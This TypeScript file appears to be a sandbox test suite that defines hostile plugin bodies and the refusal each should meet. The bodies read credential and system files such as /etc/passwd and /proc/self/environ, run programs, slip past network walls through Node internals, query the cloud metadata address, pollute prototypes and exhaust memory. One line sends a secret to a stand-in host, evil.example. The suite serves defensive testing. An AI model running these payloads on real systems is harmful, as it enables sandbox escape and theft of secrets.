/** What hostile pieces try. Each throws what stopped it, so that a kept attack can be told from one that is broken. */
import { join } from 'node:path'

/** What a plain process, or one whose hosts are allowed, has to get: otherwise the attack proves nothing. */
export type Control =
  /** The same code in a process without walls. */
  | 'plain'
  /** In the sandbox, where the operator allows the address and the piece has the host. */
  | 'allowed'
  /** Nothing to compare with: it harms only itself. The answer alone counts. */
  | 'none'

export interface Attack {
  name: string
  /** The body of `run`: returns what it got, throws what stopped it. */
  body: string
  /** What stops it: of `CODE: message [connections that were refused]`. */
  refusal: RegExp
  control: Control
  /** Whether what came back is anything; all that came back otherwise. */
  reaches?: (value: unknown, of: Reached) => boolean | Promise<boolean>
  /** It does not end by itself: a plain process has to be at it still, or to be gone without an answer. */
  isEndless?: true
  deadline_ms?: number
}

/** What the campaign itself noticed. */
export interface Reached {
  /** Requests to this machine. */
  requests: string[]
  packets: number
  signals: number
  /** What the server was asked for by the piece. */
  calls: string[]
  /** Connects to a port of this machine. */
  connect(port: number): Promise<boolean>
}

const DENIED = /ERR_ACCESS_DENIED/
const NOT_A_HOST = /not among its hosts/
const PRIVATE = /not on the public internet/

const READS = [
  '/proc/PARENT/environ',
  '/proc/self/environ',
  '/proc/self/maps',
  '/etc/passwd',
  '/etc/hostname',
  '/root',
  '/home',
  '/tmp',
  join(process.cwd(), 'src/server/main.ts'),
  join(process.cwd(), 'package-lock.json'),
]

const read = (path: string): string =>
  `const fs = require('fs'); const path = ${JSON.stringify(path)}; return String(fs.statSync(path).isDirectory() ? fs.readdirSync(path) : fs.readFileSync(path)).slice(0, 200)`

/** Says a line on a connection, and returns the answer. */
const connectAndAsk = (made: string): string =>
  `return new Promise((done, fail) => { const s = ${made}; let got = ''; s.write('GET /inside HTTP/1.0\\r\\n\\r\\n'); s.on('data', (d) => { got += d }); s.on('error', fail); s.on('close', () => got === '' ? fail(new Error('closed')) : done(got)) })`

const FILES: readonly Attack[] = [
  ...READS.map((path): Attack => ({ name: `reads ${path}`, body: read(path), refusal: DENIED, control: 'plain' })),
  {
    name: 'reads through a link in its own folder',
    body: `const fs = require('fs'); fs.symlinkSync('/etc/passwd', __dirname + '/link'); return String(fs.readFileSync(__dirname + '/link'))`,
    ...{ refusal: DENIED, control: 'plain' },
  },
  {
    name: 'writes outside',
    body: `require('fs').writeFileSync('/tmp/chowk-escaped', 'x'); return 'written'`,
    ...{ refusal: DENIED, control: 'plain' },
  },
  {
    name: 'writes into its own folder',
    body: `require('fs').writeFileSync(__dirname + '/x', 'x'); return 'written'`,
    ...{ refusal: DENIED, control: 'plain' },
  },
]

const PROGRAMS: readonly Attack[] = [
  {
    name: 'runs a program',
    body: `return String(require('child_process').execSync('id'))`,
    ...{ refusal: DENIED, control: 'plain' },
  },
  {
    name: 'forks',
    body: `require('child_process').fork(__filename); return 'forked'`,
    ...{ refusal: DENIED, control: 'plain' },
  },
  {
    name: 'starts a thread',
    body: `new (require('worker_threads').Worker)('1', { eval: true }); return 'started'`,
    ...{ refusal: DENIED, control: 'plain' },
  },
  {
    name: 'loads native code',
    // No module of Node, so that Node says so once it has loaded it.
    body: `try { process.dlopen({ exports: {} }, process.execPath) } catch (error) { if (error.code !== 'ERR_DLOPEN_FAILED') throw error; } return 'loaded'`,
    ...{ refusal: /ERR_DLOPEN_DISABLED|ERR_ACCESS_DENIED/, control: 'plain' },
  },
  {
    name: 'binds internals',
    body: `const b = process.binding('spawn_sync'); if (!b.spawn) throw new Error('empty'); return 'bound'`,
    ...{ refusal: DENIED, control: 'plain' },
  },
  {
    name: 'opens an inspector',
    body: `const i = require('inspector'); i.open(0); const url = i.url(); if (!url) throw new Error('none'); return url`,
    ...{ refusal: /ERR_ACCESS_DENIED|ERR_INSPECTOR_NOT_AVAILABLE/, control: 'plain' },
  },
  {
    name: 'signals the server',
    body: `process.kill(PARENT, 'SIGWINCH'); await new Promise((r) => setTimeout(r, 200)); return 'sent'`,
    reaches: (_value, { signals }) => signals > 0,
    ...{ refusal: /process\.kill is not a function/, control: 'plain' },
  },
  {
    name: 'signals the server by the function underneath',
    body: `if (!process._kill) throw new Error('no kill'); process._kill(PARENT, 28); await new Promise((r) => setTimeout(r, 200)); return 'sent'`,
    reaches: (_value, { signals }) => signals > 0,
    ...{ refusal: /no kill/, control: 'plain' },
  },
  {
    name: 'reads its environment',
    body: `const names = Object.keys(process.env).filter((n) => !['HOME', 'PWD', 'OLDPWD', 'SHLVL', '_'].includes(n)); if (names.length === 0) throw new Error('empty'); return names`,
    ...{ refusal: /empty/, control: 'plain' },
  },
]

const NETWORK: readonly Attack[] = [
  {
    name: 'connects past the way out by a binding',
    body: `const { TCP, constants, TCPConnectWrap } = process.binding('tcp_wrap'); return new Promise((done, fail) => { const t = new TCP(constants.SOCKET); const r = new TCPConnectWrap(); r.oncomplete = (s) => s === 0 ? done('connected') : fail(new Error('status ' + s)); const e = t.connect(r, '127.0.0.1', PORT); if (e) fail(new Error('status ' + e)) })`,
    ...{ refusal: DENIED, control: 'plain' },
  },
  {
    name: 'connects past the way out by a handle of a server',
    // The constructors of handles and requests are reached through what Node itself made.
    body: `const net = require('net'); let Wrap = null; const hook = require('async_hooks').createHook({ init(id, type, trigger, resource) { if (/CONNECTWRAP/.test(type)) Wrap = resource.constructor } }).enable(); const s = net.connect(PORT, '127.0.0.1'); s.on('error', () => {}); await new Promise((r) => setTimeout(r, 300)); hook.disable(); if (!Wrap) throw new Error('no request'); const server = net.createServer(); await new Promise((r) => server.listen(0, r)); const TCP = server._handle.constructor; return new Promise((done, fail) => { const t = new TCP(0); const r = new Wrap(); r.oncomplete = (status) => status === 0 ? done('connected') : fail(new Error('status ' + status)); const e = t.connect(r, '127.0.0.1', PORT); if (e) fail(new Error('status ' + e)) })`,
    ...{ refusal: /status -|EADDRNOTAVAIL|ENETUNREACH|no request/, control: 'plain' },
  },
  {
    name: 'connects to this machine',
    body: connectAndAsk(`require('net').connect(PORT, '127.0.0.1')`),
    ...{ refusal: PRIVATE, control: 'allowed' },
  },
  {
    name: 'connects to this machine by its name',
    body: connectAndAsk(`require('net').connect(PORT, 'localhost')`),
    ...{ refusal: PRIVATE, control: 'allowed' },
  },
  {
    name: 'asks for metadata of a cloud',
    body: `return (await fetch('http://169.254.169.254/inside')).text()`,
    ...{ refusal: NOT_A_HOST, control: 'allowed' },
  },
  {
    name: 'is led to metadata of a cloud by a host that it may ask',
    body: `return (await fetch('http://api.example.com/redirect')).text()`,
    ...{ refusal: NOT_A_HOST, control: 'allowed' },
  },
  {
    name: 'sends its secret to another host',
    body: `return (await fetch('http://evil.example/?k=' + auth.secret_text)).text()`,
    reaches: (_value, { requests }) => requests.some((one) => one.includes('canary')),
    ...{ refusal: NOT_A_HOST, control: 'allowed' },
  },
  {
    name: 'sends its secret to another port of its host',
    body: `return (await fetch('http://api.example.com:8080/?k=' + auth.secret_text)).text()`,
    reaches: (_value, { requests }) => requests.some((one) => one.includes('canary')),
    ...{ refusal: NOT_A_HOST, control: 'allowed' },
  },
  {
    name: 'opens a socket of this machine',
    body: connectAndAsk(`require('net').connect('UNIX')`),
    ...{ refusal: /EACCES/, control: 'plain' },
  },
  {
    name: 'sends by UDP',
    body: `return new Promise((done, fail) => { const u = require('dgram').createSocket('udp4'); u.on('error', fail); u.send('x', UDP, '127.0.0.1', (e) => e ? fail(e) : setTimeout(() => done('sent'), 200)) })`,
    reaches: (_value, { packets }) => packets > 0,
    ...{ refusal: /ENETUNREACH|ERR_ACCESS_DENIED|EACCES|EINVAL/, control: 'plain' },
  },
  {
    name: 'looks a name up',
    body: `const { Resolver } = require('dns').promises; const r = new Resolver({ timeout: 300, tries: 1 }); r.setServers(['127.0.0.1:UDP']); try { await r.resolve4('canary.example.com') } catch (error) { if (error.code === 'ETIMEOUT') return 'asked'; throw error }`,
    reaches: (_value, { packets }) => packets > 0,
    ...{ refusal: /ECONNREFUSED|ENETUNREACH|ERR_ACCESS_DENIED/, control: 'plain' },
  },
  {
    name: 'listens',
    body: `return new Promise((done, fail) => { const s = require('net').createServer(); s.on('error', fail); s.listen(0, () => done(s.address().port)) })`,
    reaches: (value, { connect }) => connect(Number(value)),
    ...{ refusal: /ERR_ACCESS_DENIED/, control: 'plain' },
  },
]

const ENDLESS: readonly Attack[] = [
  {
    name: 'loops',
    body: `for (;;) {}`,
    refusal: /piece_timeout/,
    control: 'plain',
    isEndless: true,
    deadline_ms: 4000,
  },
  {
    name: 'never answers',
    body: `return new Promise(() => setInterval(() => {}, 1000))`,
    ...{ refusal: /piece_timeout/, control: 'plain', isEndless: true, deadline_ms: 3000 },
  },
  {
    name: 'takes 500 MB of buffers',
    body: `const kept = []; for (let i = 0; i < 500; i++) { kept.push(Buffer.alloc(1e6, 1)); await new Promise((r) => setTimeout(r, 1)) } return kept.length`,
    ...{ refusal: /piece_memory/, control: 'plain', deadline_ms: 20_000 },
  },
  {
    name: 'takes 400 MB of heap',
    body: `const kept = []; for (let i = 0; i < 500; i++) kept.push(new Array(1e5).fill(Math.random())); return kept.length`,
    ...{ refusal: /piece_memory/, control: 'plain', deadline_ms: 20_000 },
  },
  {
    name: 'answers 45 MB',
    body: `return 'x'.repeat(45e6)`,
    ...{ refusal: /piece_too_large/, control: 'plain', deadline_ms: 20_000 },
  },
  {
    name: 'ends its process',
    body: `process.exit(0)`,
    ...{ refusal: /runner_lost/, control: 'plain', isEndless: true },
  },
  { name: 'aborts', body: `process.abort()`, refusal: /runner_lost/, control: 'plain', isEndless: true },
]

/** Says a call to the server that the framework does not have. */
const says = (name: string): string =>
  `const h = Buffer.from(JSON.stringify({ kind: 'call', call: 999, name: '${name}', args: {} })); const p = Buffer.alloc(8); p.writeUInt32BE(4 + h.length, 0); p.writeUInt32BE(h.length, 4); require('fs').writeSync(3, Buffer.concat([p, h])); await new Promise((r) => setTimeout(r, 500)); return 'said'`

const OTHERS: readonly Attack[] = [
  {
    name: 'says something else to the server',
    body: says('secrets.read'),
    reaches: (_value, { calls }) => calls.length > 0,
    ...{ refusal: /runner_lost/, control: 'none' },
  },
  {
    name: 'answers what holds itself',
    body: `const a = {}; a.a = a; return a`,
    ...{ refusal: /circular/i, control: 'none' },
  },
  {
    name: 'throws later',
    body: `setTimeout(() => { throw new Error('late') }, 10); await new Promise((r) => setTimeout(r, 300)); return null`,
    ...{ refusal: /late/, control: 'none' },
  },
  {
    name: 'pollutes prototypes',
    body: `Object.prototype.toJSON = () => ({ kind: 'done', value: 'polluted' }); return {}`,
    reaches: () => 'toJSON' in {},
    ...{ refusal: /polluted/, control: 'none' },
  },
]

export const ATTACKS: readonly Attack[] = [...FILES, ...PROGRAMS, ...NETWORK, ...ENDLESS, ...OTHERS]

/** What the server has to hear when a piece may say it: the control of the one above. */
export const HEARD_CALL = says('store.get')

export interface Places {
  port: number
  udp: number
  unix: string
  parent: number
}

/** A package with each attack as an action, and what is asked of several people in turn. */
export function sourceOf({ port, udp, unix, parent }: Places): string {
  const placed = (body: string) =>
    body
      .replaceAll('PORT', String(port))
      .replaceAll('UDP', String(udp))
      .replaceAll('UNIX', unix)
      .replaceAll('PARENT', String(parent))
  return `
const run = {
${ATTACKS.map(({ body }, index) => `  a${index}: async ({ auth, propsValue, store }) => { ${placed(body)} },`).join('\n')}
  heard: async () => { ${HEARD_CALL} },
  tell: async ({ auth }) => { console.log(auth.secret_text); console.error(auth.secret_text); throw new Error('the key is ' + auth.secret_text) },
  keep: async ({ auth }) => { const before = globalThis.kept ?? null; globalThis.kept = auth.secret_text; return before },
}
const actions = Object.fromEntries(Object.entries(run).map(([name, run]) => [name, { name, displayName: name, description: '', props: {}, run }]))
exports.run = run
exports.piece = { displayName: 'Hostile', auth: { type: 'SECRET_TEXT', displayName: 'Key', required: true }, getContextInfo: () => ({ version: '2' }), actions: () => actions, triggers: () => ({}) }
`
}
